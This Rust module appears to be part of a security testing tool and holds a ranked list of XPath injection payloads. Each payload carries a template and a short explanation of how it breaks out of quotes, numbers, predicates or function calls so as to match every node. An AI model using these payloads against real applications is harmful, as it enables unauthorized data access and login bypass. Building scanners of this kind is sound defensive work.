//! Payloads for XPath expressions.

use super::{Effect, Payload, PayloadClass};

const fn xpath(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::XPath, id, template, Effect::Query, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    xpath(
        "xpath-single-quotes",
        "' or '{C}'='{C}' or '",
        "leaves single quotes and finds every node; `and` binds tighter, so it needs an `or` on both sides",
    ),
    xpath("xpath-double-quotes", "\" or \"{C}\"=\"{C}\" or \"", "leaves double quotes and finds every node"),
    xpath("xpath-number", "0 or '{C}'='{C}' or 0", "any place where a number may stand"),
    xpath(
        "xpath-union",
        "']|//*|//*['{C}'='{C}",
        "leaves the predicate: finds every node whatever else is asked",
    ),
    xpath("xpath-parenthesis", "') or contains('{C}','{C}", "leaves single quotes in a call of a function"),
    xpath("xpath-step", "*|//*['{C}'='{C}']", "in the place of a name"),
];
